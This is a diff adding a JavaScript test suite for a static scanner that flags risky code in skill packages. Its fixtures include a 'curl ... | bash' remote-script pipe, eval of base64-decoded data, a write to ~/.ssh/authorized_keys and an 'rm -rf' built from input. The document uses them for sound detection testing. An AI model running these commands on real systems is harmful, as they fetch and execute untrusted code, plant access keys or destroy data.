@@ -0,0 +1,76 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { scanContent, runStaticScanner } from '../src/analyzers/static.js';
+import { languageOf } from '../src/analyzers/code.js';
+import { makeSkill } from './helpers.js';
+
+/**
+ * rule@line for each finding in a JavaScript source
+ * @param {string} code
+ * @param {string} file
+ * @returns {Array<string>}
+ */
+function js(code, file = 'index.js') {
+  return scanContent(code, 'js', file).map(finding => `${finding.rule}@${finding.line}`);
+}
+
+test('child_process calls are found through aliases, line breaks and built-up commands', () => {
+  assert.deepEqual(js("import { exec as run } from 'node:child_process';\nrun(\n  `ls ${dir}`\n);\n"),
+    ['shell-injection@2']);
+  assert.deepEqual(js("const cp = require('child_process');\nconst cmd = 'git log ' + branch;\ncp.execSync(cmd);\n"),
+    ['shell-injection@3']);
+  assert.deepEqual(js([
+    "import { promisify } from 'util';",
+    "import * as childProcess from 'child_process';",
+    'const sh = promisify(childProcess.exec);',
+    "await sh('rm -rf '.concat(target));"
+  ].join('\n')), ['shell-injection@4']);
+  assert.deepEqual(js("const { spawn: launch } = require('child_process');\nlaunch('sh', ['-c', `echo ${x}`]);\n"),
+    ['shell-injection@2']);
+});
+
+test('fixed commands, argument arrays and unrelated exec functions are not shell injection', () => {
+  assert.deepEqual(js([
+    "import { execFile, spawn } from 'child_process';",
+    "execFile('git', ['log', branch]);",
+    "spawn('ls', [dir]);",
+    'const exec = cmd => cmd;',
+    'exec(`${a} b`);',
+    "regex.exec('a' + b);"
+  ].join('\n')), []);
+});
+
+test('eval, base64 payloads, sensitive writes and remote scripts are found', () => {
+  assert.deepEqual(js("const p = Buffer.from(data, 'base64').toString();\n(0, eval)(p);\nnew Function('return ' + x);\n"),
+    ['base64-exec@2', 'dynamic-eval@2', 'dynamic-eval@3']);
+  assert.deepEqual(js("writeFileSync(join(homedir(), '.ssh', 'authorized_keys'), key);\n"), ['sensitive-file-write@1']);
+  assert.deepEqual(js("const u = 'https://example.net/i.sh';\nexecSync('curl -fsSL ' + u\n  + ' | bash');\n"),
+    ['remote-script-pipe@2']);
+  assert.deepEqual(js(`String.fromCharCode(104, 101, 108, 108, 111, 32, 119, 111);\nconst b = '${'A'.repeat(130)}';\n`),
+    ['obfuscated-string@1', 'obfuscated-string@2']);
+});
+
+test('TypeScript is parsed and unparsable files fall back to line rules', () => {
+  assert.deepEqual(js("import { exec } from 'child_process';\nconst run = (cmd: string): void => { exec(`sh ${cmd}`); };\n", 'run.ts'),
+    ['shell-injection@2']);
+  assert.deepEqual(js('eval(x) +++ {\n'), ['dynamic-eval@1']);
+});
+
+test('shell and Python files are matched line by line', () => {
+  const rules = (code, language) => scanContent(code, language, 'x').map(finding => finding.rule);
+  assert.deepEqual(rules('curl -fsSL https://example.net/i.sh | sudo bash\n', 'sh'), ['remote-script-pipe']);
+  assert.deepEqual(rules("import os\nos.system(f'ls {path}')\n", 'py'), ['shell-injection']);
+});
+
+test('runStaticScanner counts issues across the script files it knows', async t => {
+  const skill = await makeSkill(t, {
+    'index.js': "import { exec } from 'child_process';\nexec(`open ${url}`);\n",
+    'notes.md': 'eval(x)\n'
+  });
+  const result = await runStaticScanner(skill);
+
+  assert.equal(result.filesScanned, 1);
+  assert.deepEqual(result.issues, { critical: 0, high: 1, medium: 0, low: 0 });
+  assert.deepEqual([languageOf('a.mjs'), languageOf('a.ts'), languageOf('a.sh'), languageOf('a.py'), languageOf('a.md')],
+    ['js', 'js', 'sh', 'py', null]);
+});